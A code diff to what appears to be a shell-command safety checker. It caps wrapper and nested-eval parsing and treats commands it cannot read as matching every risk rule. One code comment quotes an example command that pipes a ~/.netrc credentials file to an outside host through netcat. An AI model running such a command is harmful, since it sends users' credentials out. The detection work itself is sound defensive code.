@@ -72,6 +72,13 @@ const MAX_SEGMENT = 2048;
 const MAX_EVIDENCE = 64;
 /** Credential labels kept per call (sorted first, so the kept ones are deterministic). */
 const MAX_REFS = 32;
+/**
+ * Wrappers and assignments read in front of one command (`nice env A=1 timeout 5 curl …`), and
+ * `eval`s nested in one another. Past either, the command is not read: it counts as everything
+ * the rules look for (README "Bounds"), so piling up wrappers cannot hide a program.
+ */
+const MAX_PREFIX_WORDS = 16;
+const MAX_EVAL_DEPTH = 4;
 
 const NETWORK = EIT | NAT;
 
@@ -933,7 +940,7 @@ function dispatch(argv: readonly string[], at: string, acc: Acc, depth = 0): voi
   let i = 0;
   let wrapperName = '';
   let sawIgnoreEnv = false;
-  for (let guard = 0; i < argv.length && guard < 16; guard++) {
+  for (let guard = 0; i < argv.length && guard < MAX_PREFIX_WORDS; guard++) {
     const w = argv[i] as string;
     if (ASSIGNMENT.test(w)) {
       i++;
@@ -961,12 +968,22 @@ function dispatch(argv: readonly string[], at: string, acc: Acc, depth = 0): voi
       }
     }
   }
+  // INVARIANT: a command the reader gave up on counts as everything the rules look for. The loop
+  // above ends on a word that is neither a wrapper nor an assignment, unless it ran out of turns.
+  if (i < argv.length && (ASSIGNMENT.test(argv[i] as string) || WRAPPERS.has(programName(argv[i] as string)))) {
+    record(acc, NETWORK | PAT | MUT | CRED, `command not read past ${MAX_PREFIX_WORDS} wrappers and assignments`, at);
+    return;
+  }
   if (i >= argv.length || REDIRECT_WORD.test(argv[i] as string)) {
     // `env` (or `env FOO=1`, `env > f`) with no command prints the whole environment.
     if (wrapperName === 'env' && !sawIgnoreEnv) record(acc, CRED, 'env', at);
     return;
   }
-  if (wrapperName === 'eval' && depth < 4) {
+  if (wrapperName === 'eval' && depth >= MAX_EVAL_DEPTH) {
+    record(acc, NETWORK | PAT | MUT | CRED, `command not read past ${MAX_EVAL_DEPTH} nested evals`, at);
+    return;
+  }
+  if (wrapperName === 'eval') {
     // `eval "nc host < ~/.netrc"`: eval joins its arguments and runs them as a command line, quotes
     // and all already gone, so the words are split again (a quoted `<` now redirects).
     const line = argv.slice(i).map((w) => (w.startsWith(LITERAL_MARK) ? w.slice(1) : w)).join(' ');
